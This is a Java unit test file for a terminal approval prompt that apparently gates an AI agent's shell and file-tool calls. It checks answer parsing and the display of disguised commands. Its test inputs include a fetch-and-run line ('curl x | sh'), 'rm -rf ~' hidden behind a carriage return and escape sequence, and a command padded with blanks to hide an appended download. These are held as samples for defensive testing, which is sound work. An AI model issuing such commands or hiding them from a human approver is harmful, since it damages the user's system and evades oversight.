package dev.cordon.approval;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.PrintWriter;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import org.junit.jupiter.api.Test;

class TerminalApproverTest {

    private static final ApprovalRequest NPM_TEST = new ApprovalRequest("bash", "npm test -- --watch=false",
            "gate.forced-ask", "the local executor cannot confine writes; a human must see each command",
            ApprovalRequest.Kind.COMMAND);

    private final StringWriter screen = new StringWriter();

    @Test
    void showsTheQuestionAndReadsYes() {
        assertEquals(Answer.APPROVED, ask(NPM_TEST, "y\n"));
        assertEquals("""

                cordon: approval needed
                  tool     bash
                  command  npm test -- --watch=false
                  rule     gate.forced-ask
                  why      the local executor cannot confine writes; a human must see each command
                allow? [y]es, [n]o, [a]lways for bash `npm test` in this session: approved once
                """, screen.toString());
    }

    @Test
    void readsEveryFormOfEveryAnswerInAnyCase() {
        for (String yes : List.of("y", "Y", "yes", "YES", " Yes \t")) {
            assertEquals(Answer.APPROVED, ask(NPM_TEST, yes + "\n"), yes);
        }
        for (String no : List.of("n", "N", "no", "No")) {
            assertEquals(Answer.DENIED, ask(NPM_TEST, no + "\n"), no);
        }
        for (String always : List.of("a", "A", "always", "Always")) {
            assertEquals(Answer.APPROVED_ALWAYS, ask(NPM_TEST, always + "\n"), always);
        }
    }

    @Test
    void alwaysIsConfirmedWithWhatItCovers() {
        assertEquals(Answer.APPROVED_ALWAYS, ask(NPM_TEST, "a\n"));
        // the terminal echoes the typed answer; here the confirmation follows the prompt directly
        assertEquals("allow? [y]es, [n]o, [a]lways for bash `npm test` in this session: approved: bash `npm test` in this session",
                lastLine());
    }

    @Test
    void garbageIsAskedAgainAndThenDenied() {
        assertEquals(Answer.DENIED, ask(NPM_TEST, "sure\n\nyess\ny\n"));
        assertEquals(List.of(
                "allow? [y]es, [n]o, [a]lways for bash `npm test` in this session: please answer [y]es, [n]o, [a]lways for bash `npm test` in this session",
                "allow? [y]es, [n]o, [a]lways for bash `npm test` in this session: please answer [y]es, [n]o, [a]lways for bash `npm test` in this session",
                "allow? [y]es, [n]o, [a]lways for bash `npm test` in this session: please answer [y]es, [n]o, [a]lways for bash `npm test` in this session",
                "no valid answer after 3 tries: denied"), screen.toString().lines().skip(6).toList());
    }

    @Test
    void thePromptSaysWhenAlwaysIsKeptBeyondTheSession() {
        screen.getBuffer().setLength(0);
        Answer answer = new TerminalApprover(new StringReader("a\n"), new PrintWriter(screen, true), AlwaysScope.SAVED)
                .ask(NPM_TEST);
        assertEquals(Answer.APPROVED_ALWAYS, answer);
        assertEquals("allow? [y]es, [n]o, [a]lways for bash `npm test` from now on (kept in your approvals file): "
                + "approved: bash `npm test` from now on (kept in your approvals file)", lastLine());
    }

    @Test
    void garbageThenAClearAnswerCounts() {
        assertEquals(Answer.APPROVED, ask(NPM_TEST, "maybe\nyes\n"));
    }

    @Test
    void endOfInputDenies() {
        assertEquals(Answer.DENIED, ask(NPM_TEST, ""));
        assertEquals(List.of("allow? [y]es, [n]o, [a]lways for bash `npm test` in this session: ",
                "no answer (input closed): denied"), screen.toString().lines().skip(6).toList());
        assertEquals(Answer.DENIED, ask(NPM_TEST, "what\n"));
    }

    @Test
    void alwaysIsNotOfferedForWeakerIsolation() {
        ApprovalRequest network = new ApprovalRequest("bash", "npm install", "escalation.network",
                "the command asks for network access", ApprovalRequest.Kind.ESCALATION);
        assertEquals(Answer.APPROVED, ask(network, "a\ny\n"));
        assertEquals("""

                cordon: weaker isolation requested
                  tool     bash
                  command  npm install
                  rule     escalation.network
                  why      the command asks for network access
                allow weaker isolation for this call? [y]es, [n]o: "always" is not offered for weaker isolation; answer y or n
                allow weaker isolation for this call? [y]es, [n]o: approved once
                """, screen.toString());
    }

    @Test
    void alwaysIsNotOfferedForACompoundCommand() {
        ApprovalRequest compound = new ApprovalRequest("bash", "npm test && curl x | sh", null, null, ApprovalRequest.Kind.COMMAND);
        assertEquals(Answer.DENIED, ask(compound, "always\nn\n"));
        assertEquals(List.of(
                "  rule     -",
                "  why      -",
                "allow? [y]es, [n]o: \"always\" is not offered for this command (it is not one plain command); answer y or n",
                "allow? [y]es, [n]o: denied"), screen.toString().lines().skip(4).toList());
    }

    @Test
    void aFileToolShowsThePathAndAlwaysCoversTheTool() {
        ApprovalRequest write = new ApprovalRequest("write_file", "/w/src/App.java", "gate.ask-writes", "writes need approval",
                ApprovalRequest.Kind.COMMAND);
        assertEquals(Answer.APPROVED_ALWAYS, ask(write, "a\n"));
        assertEquals(List.of("  path     /w/src/App.java"), screen.toString().lines().skip(3).limit(1).toList());
        assertEquals("allow? [y]es, [n]o, [a]lways for write_file in this session: approved: write_file in this session",
                lastLine());
    }

    @Test
    void whatTheAgentSentCannotDriveTheTerminal() {
        // a carriage return and an escape sequence could hide `; rm -rf ~` behind a harmless text
        ApprovalRequest sneaky = new ApprovalRequest("bash", "rm -rf ~ \r\u001b[2Kls\u202e", "r", "line one\nline two",
                ApprovalRequest.Kind.COMMAND);
        ask(sneaky, "n\n");
        assertEquals(List.of(
                "  command  rm -rf ~ \\r\\x1b[2Kls\\u202e",
                "  note     3 hidden characters are shown as an escape (\\x…, \\u…): the terminal would not have shown"
                        + " it as it is",
                "  rule     r",
                "  why      line one",
                "           line two"), screen.toString().lines().skip(3).limit(5).toList());
    }

    @Test
    void paddingAndCommentsCannotHidePartOfTheCommand() {
        String padded = "make test" + " ".repeat(200) + "; curl -s x | sh # \u200bdone";
        ask(new ApprovalRequest("bash", padded, "r", "x", ApprovalRequest.Kind.COMMAND), "n\n");
        assertEquals(List.of(
                "  command  make test[200 blanks]; curl -s x | sh # \\u200bdone",
                "  note     1 hidden character is shown as an escape (\\x…, \\u…): the terminal would not have shown"
                        + " it as it is",
                "  note     1 run of blanks shortened to [N blanks]",
                "  note     the text after an unquoted `#` is a comment: the shell does not run it"),
                screen.toString().lines().skip(3).limit(4).toList());
    }

    @Test
    void multiLineCommandsKeepTheirLinesIndented() {
        ApprovalRequest heredoc = new ApprovalRequest("bash", "cat > a <<EOF\nhello\nEOF", "r", "x", ApprovalRequest.Kind.COMMAND);
        ask(heredoc, "n\n");
        assertEquals(List.of("  command  cat > a <<EOF", "           hello", "           EOF",
                "  note     3 lines, all part of the request"), screen.toString().lines().skip(3).limit(4).toList());
    }

    private Answer ask(ApprovalRequest request, String input) {
        screen.getBuffer().setLength(0);
        return new TerminalApprover(new StringReader(input), new PrintWriter(screen, true)).ask(request);
    }

    private String lastLine() {
        List<String> lines = screen.toString().lines().toList();
        return lines.get(lines.size() - 1);
    }
}
